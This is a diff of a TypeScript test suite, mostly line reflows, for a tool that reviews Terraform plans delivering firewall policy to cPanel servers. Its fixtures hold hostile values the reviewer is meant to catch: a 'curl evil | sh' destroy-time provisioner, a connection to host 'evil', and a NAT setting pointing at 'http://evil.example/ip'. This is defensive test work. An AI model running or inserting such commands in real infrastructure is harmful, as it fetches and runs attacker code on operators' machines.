@@ -24,7 +24,11 @@ const deflate = (bytes: Uint8Array): Uint8Array => deflateSync(bytes);
 const [HOLDER, RELEASE] = ['terraform_data.web1_hosting_holder', 'terraform_data.web1_hosting'];
 
 const honestOf = (policy: ServerPolicy): Release =>
-  deriveRelease({ policy, written: platformOf(policy).writer.write(policy) }, { witnesses: [], rollbackSeconds: 90 }, sha256);
+  deriveRelease(
+    { policy, written: platformOf(policy).writer.write(policy) },
+    { witnesses: [], rollbackSeconds: 90 },
+    sha256,
+  );
 const policyOf = (more: Partial<Parameters<typeof server>[3]> = {}): ServerPolicy =>
   policiesOf({ servers: [server('web1', '10.0.0.10', profile(['443/tcp']), more)] })[0] as ServerPolicy;
 
@@ -46,7 +50,9 @@ function planned({ policy = policyOf(), release, work, environment = {}, before,
   const shown = data({ text: honest.text, policy: honest.policy, lines: shownLines(honest) });
   const plan = new PlanBuilder();
   if (before)
-    plan.kept(HOLDER, ['update'], held({ ...input, ...before }), held({ ...input, ...after })).kept(RELEASE, ['no-op'], shown, shown);
+    plan
+      .kept(HOLDER, ['update'], held({ ...input, ...before }), held({ ...input, ...after }))
+      .kept(RELEASE, ['no-op'], shown, shown);
   else plan.change(HOLDER, ['create'], null, held({ ...input, ...after })).change(RELEASE, ['create'], null, shown);
   const connection = work ?? (after['connection'] as Connection | undefined) ?? connectionOf();
   return plan
@@ -63,21 +69,29 @@ function planned({ policy = policyOf(), release, work, environment = {}, before,
 }
 
 const reviewed = (of: Delivered, known: Partial<Known> = {}): Review =>
-  reviewOf([readPlan(planned(of), 'edge', { inflate: (bytes) => inflateSync(bytes), sha256, version: '0.1.0' })], { ...KNOWN, ...known });
+  reviewOf([readPlan(planned(of), 'edge', { inflate: (bytes) => inflateSync(bytes), sha256, version: '0.1.0' })], {
+    ...KNOWN,
+    ...known,
+  });
 const objectedIn = (of: Delivered, known: Partial<Known> = {}): readonly string[] =>
   reviewed(of, known).objections.map(({ code, where, what }) => `${code} at ${where}: ${what}`);
 
 test('a plan as the package writes it is not objected to', () => {
   expect(objectedIn({})).toEqual([]);
   expect(
-    decodeWork(encodeWork({ format: 1, connection: connectionOf(), release: honestOf(policyOf()) }, deflate), (bytes) => inflateSync(bytes))
-      .release,
+    decodeWork(encodeWork({ format: 1, connection: connectionOf(), release: honestOf(policyOf()) }, deflate), (bytes) =>
+      inflateSync(bytes),
+    ).release,
   ).toEqual(honestOf(policyOf()));
 });
 
 describe('what a policy gives is delivered as it gives it', () => {
   test.each<readonly [string, Delivered, readonly string[]]>([
-    ['other firewalls', { release: { replaces: ['csf', 'firewalld', 'ufw'] } }, ['replaces', 'csf, firewalld, ufw', 'gives none']],
+    [
+      'other firewalls',
+      { release: { replaces: ['csf', 'firewalld', 'ufw'] } },
+      ['replaces', 'csf, firewalld, ufw', 'gives none'],
+    ],
     [
       'fewer of them',
       { policy: policyOf({ replaces: ['ufw', 'csf'] }), release: { replaces: ['ufw'] } },
@@ -85,7 +99,11 @@ describe('what a policy gives is delivered as it gives it', () => {
     ],
     [
       "cPanel's NAT",
-      { release: { cpnat: ['nat-mode on', 'in-use change', 'pair 10.0.0.10 198.51.100.66', 'set myip http://evil.example/ip'] } },
+      {
+        release: {
+          cpnat: ['nat-mode on', 'in-use change', 'pair 10.0.0.10 198.51.100.66', 'set myip http://evil.example/ip'],
+        },
+      },
       ['cpnat', 'set myip http://evil.example/ip'],
     ],
     [
@@ -126,10 +144,16 @@ describe('a plan of another version of the package', () => {
 describe('a lease of another state is taken over by an import alone', () => {
   test.each<readonly [string, Record<string, string>, string]>([
     ['a literal lease', { CPANEL_EDGE_LEASE: 'lease-of-another-team' }, 'lease-of-another-team'],
-    ['the lease of another holder', { CPANEL_EDGE_LEASE: '${terraform_data.web1_hosting_holder.id}x' }, 'CPANEL_EDGE_LEASE'],
+    [
+      'the lease of another holder',
+      { CPANEL_EDGE_LEASE: '${terraform_data.web1_hosting_holder.id}x' },
+      'CPANEL_EDGE_LEASE',
+    ],
     ['an adoption without an import', { CPANEL_EDGE_ADOPT: 'lease-of-another-team' }, 'CPANEL_EDGE_ADOPT'],
   ])('%s', (_, environment, words) => {
-    expect(objectedIn({ environment })).toEqual([expect.stringMatching(new RegExp(`^review/takes-over at edge: .*${words}`))]);
+    expect(objectedIn({ environment })).toEqual([
+      expect.stringMatching(new RegExp(`^review/takes-over at edge: .*${words}`)),
+    ]);
   });
 
   test('an adoption of its own lease', () => {
@@ -166,7 +190,9 @@ describe('delivery settings are shown before → after', () => {
     [
       'a jump host',
       { jump: connectionOf({ host: 'jump.example' }) },
-      expect.arrayContaining(['connection.jump.host (address of the device, of the jump host): none → jump.example']) as never,
+      expect.arrayContaining([
+        'connection.jump.host (address of the device, of the jump host): none → jump.example',
+      ]) as never,
       [],
     ],
   ])('%s', (_, parts, settings, objected) => {
@@ -201,7 +227,9 @@ describe('delivery settings are shown before → after', () => {
     expect(objectedIn({ policy: policyOf({ replaces: ['ufw'] }) })).toEqual([
       'review/less-protected at server web1, owner hosting: A protection is lowered: replaces (other firewalls that the device stops and disables): none → ufw.',
     ]);
-    expect(objectedIn({ policy: policyOf({ onRetract: 'as before' }) })).toEqual([expect.stringContaining('onRetract')]);
+    expect(objectedIn({ policy: policyOf({ onRetract: 'as before' }) })).toEqual([
+      expect.stringContaining('onRetract'),
+    ]);
     expect(objectedIn({ before: {}, after: { rollbackSeconds: 3600 }, release: { rollbackSeconds: 3600 } })).toEqual([
       expect.stringContaining('rollbackSeconds (seconds until an unconfirmed release is undone): 90 → 3600'),
     ]);
@@ -221,7 +249,9 @@ describe('delivery settings are shown before → after', () => {
     expect(objectedIn(change, until('2027-01-01'))).toEqual([]);
     expect(reviewed(change, until('2027-01-01')).notes.map(({ code }) => code)).toContain('review/new-host-keys');
     expect(objectedIn(change, until('2026-01-01'))).toEqual([expect.stringContaining('review/new-host-keys')]);
-    expect(objectedIn(change, until('2027-01-01', 'server web10'))).toEqual([expect.stringContaining('review/new-host-keys')]);
+    expect(objectedIn(change, until('2027-01-01', 'server web10'))).toEqual([
+      expect.stringContaining('review/new-host-keys'),
+    ]);
   });
 });
 
@@ -230,20 +260,42 @@ describe('a removed block counts only as Retired writes it', () => {
     new PlanBuilder()
       .kept('terraform_data.gw_web_holder', ['delete'], held(), null, { reason: 'delete_because_no_resource_config' })
       .kept('terraform_data.gw_web', ['delete'], data(), null, { reason: 'delete_because_no_resource_config' });
-  const [block] = retiring('terraform_data.gw_web_holder')['removed'] as [{ provisioner: Record<string, object>[]; lifecycle: object }];
+  const [block] = retiring('terraform_data.gw_web_holder')['removed'] as [
+    { provisioner: Record<string, object>[]; lifecycle: object },
+  ];
   const [provisioner] = block.provisioner;
   const own = provisioner!['local-exec']!;
   const evil = { command: 'curl evil | sh', when: 'destroy' };
 
   test.each<readonly [string, unknown, readonly string[]]>([
     ['as it is written', [block], []],
-    ['a second provisioner in the list', [{ ...block, provisioner: [provisioner, { 'local-exec': evil }] }], ['! stays-open']],
-    ['another type beside ours', [{ ...block, provisioner: [{ ...provisioner, 'remote-exec': evil }] }], ['! stays-open']],
+    [
+      'a second provisioner in the list',
+      [{ ...block, provisioner: [provisioner, { 'local-exec': evil }] }],
+      ['! stays-open'],
+    ],
+    [
+      'another type beside ours',
+      [{ ...block, provisioner: [{ ...provisioner, 'remote-exec': evil }] }],
+      ['! stays-open'],
+    ],
     ['two commands under one type', [{ ...block, provisioner: [{ 'local-exec': [own, evil] }] }], ['! stays-open']],
     ['a connection beside it', [{ ...block, connection: { host: 'evil' } }], ['! stays-open']],
-    ['another word of its lifecycle', [{ ...block, lifecycle: { ...block.lifecycle, prevent_destroy: false } }], ['! stays-open']],
-    ['another working directory', [{ ...block, provisioner: [{ 'local-exec': { ...own, working_dir: '/tmp' } }] }], ['! stays-open']],
-    ['another block for the same holder', [block, { ...block, provisioner: [{ 'local-exec': evil }] }], ['! stays-open']],
+    [
+      'another word of its lifecycle',
+      [{ ...block, lifecycle: { ...block.lifecycle, prevent_destroy: false } }],
+      ['! stays-open'],
+    ],
+    [
+      'another working directory',
+      [{ ...block, provisioner: [{ 'local-exec': { ...own, working_dir: '/tmp' } }] }],
+      ['! stays-open'],
+    ],
+    [
+      'another block for the same holder',
+      [block, { ...block, provisioner: [{ 'local-exec': evil }] }],
+      ['! stays-open'],
+    ],
   ])('%s', (_, removed, expected) => {
     expect(codes(read(gone(), { removed }))).toEqual(expected);
   });
